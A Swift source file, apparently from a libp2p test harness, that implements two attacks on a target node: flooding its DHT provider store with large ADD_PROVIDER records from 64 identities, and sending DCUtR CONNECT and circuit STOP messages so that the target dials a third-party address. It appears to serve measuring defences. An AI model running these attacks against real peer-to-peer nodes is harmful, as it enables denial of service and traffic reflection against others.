import DCUtR
import Foundation
import Host
import Identity
import KadDHT
import Multiformats
import NIOCore
import NIOPosix
import Relay
import Transport

/// Attacks through the DHT's provider store and through DCUtR and circuit STOP.
extension Attack {
    // MARK: Rows 3, 7, 8: the provider store

    /// 64 peer ids from 8 addresses send ADD_PROVIDER records of the largest
    /// size the store takes (about 4 KiB), each naming itself, on fresh keys;
    /// first all of them on the topic's key (row 8: a topic's slots).
    func fillProviderStore() async throws -> String {
        let (address, peer, _, _) = try target()
        let identities = 64
        let maxRecords = 40_000  // issue 25's measure
        let sent = AttackCounter()
        let resets = AttackCounter()
        let topicKey = ContentKey.topic(options.topic)
        let end = self.end
        await withIdentities(identities, from: 8) { index, host in
            guard (try? await host.connect(address)) != nil else { return await host.close() }
            var stream: MuxedStream?
            var key = topicKey
            var number = 0
            while ContinuousClock.now < end, sent.value < maxRecords {
                if stream == nil {
                    stream = try? await host.newStream(to: peer, protocols: [KadDHT.protocolID])
                    if stream == nil { break }  // no kad, or the connection is gone
                }
                do {
                    try await stream!.write(HostileFrames.largeProviderRecord(peer: host.localPeer, key: key))
                    sent.add()
                } catch {
                    resets.add()
                    stream = nil
                }
                number += 1
                key = ContentKey.topic("attack-\(index)-\(number)")
            }
            stream?.reset()
            await host.close()
        }
        while running { await pause(.seconds(1)) }
        return "\(identities) peer ids from 8 addresses wrote \(sent.value) provider records of 16 addresses of 246 bytes "
            + "(the first of each on \(options.topic)'s key), \(resets.value) streams reset by the target"
    }

    // MARK: Rows 5, 6: DCUtR and STOP where they do not belong

    /// On a direct connection, DCUtR CONNECT naming 32 addresses of a third
    /// party (a listener of ours) and STOP from a peer that is no relay of the
    /// target, a few times a second: counts the third party's connections.
    func makeTheTargetDial() async throws -> String {
        let (address, _, _, _) = try target()
        let accepted = AttackCounter()
        let thirdParty = try await ServerBootstrap(group: group)
            .childChannelInitializer { channel in
                accepted.add()
                return channel.close()
            }
            .bind(host: options.source(1), port: 0).get()
        defer { thirdParty.close(promise: nil) }
        let thirdPort = UInt16(thirdParty.localAddress?.port ?? 0)
        let thirdBytes = options.source(1).split(separator: ".").compactMap { UInt8($0) }
        let targets = (0..<32).map { _ in Multiaddr([.ip4(thirdBytes), .tcp(thirdPort)]) }
        let host = try await attacker(from: options.source(0))
        let summary = try await sendDCUtRAndStop(host: host, to: address, naming: targets)
        await host.close()
        return summary + "; the target dialled the third party \(accepted.value) times"
    }

    private func sendDCUtRAndStop(host: Libp2pHost, to address: Multiaddr, naming targets: [Multiaddr]) async throws -> String {
        var connection = try await host.connect(address)
        var connects = 0
        var connectsAnswered = 0
        var stops = 0
        var stopAnswers: [String: Int] = [:]
        while running {
            if !connection.isActive { connection = try await host.connect(address) }
            connects += 1
            if let stream = try? await connection.newStream(protocols: [HolePunchService.protocolID]) {
                try? await stream.write(HostileFrames.holePunchConnect(targets))
                if (try? await readMessage(stream, within: .seconds(2))) ?? nil != nil {
                    connectsAnswered += 1
                    var sync = ByteBuffer()
                    sync.writeLengthPrefixed(HolePunchMessage.sync.encoded())
                    try? await stream.write(sync)
                }
                stream.reset()
            }
            stops += 1
            if let stream = try? await connection.newStream(protocols: [CircuitProtocol.stop]) {
                try? await stream.write(HostileFrames.stopConnect(from: PeerID(publicKey: PrivateKey.generateEd25519().publicKey)))
                let answer = (try? await readMessage(stream, within: .seconds(2))) ?? nil
                let status = answer.flatMap { try? StopMessage(bytes: $0.readableBytesView) }.map { "\($0)" } ?? "no answer"
                stopAnswers[status, default: 0] += 1
                stream.reset()
            } else {
                stopAnswers["stream refused", default: 0] += 1
            }
            await pause(.milliseconds(100))
        }
        let answers = stopAnswers.sorted { $0.key < $1.key }.map { "\($0.value) \($0.key)" }.joined(separator: ", ")
        return "\(connects) DCUtR CONNECTs of 32 addresses on a direct connection (\(connectsAnswered) answered), "
            + "\(stops) STOPs from a non-relay (\(answers))"
    }
}
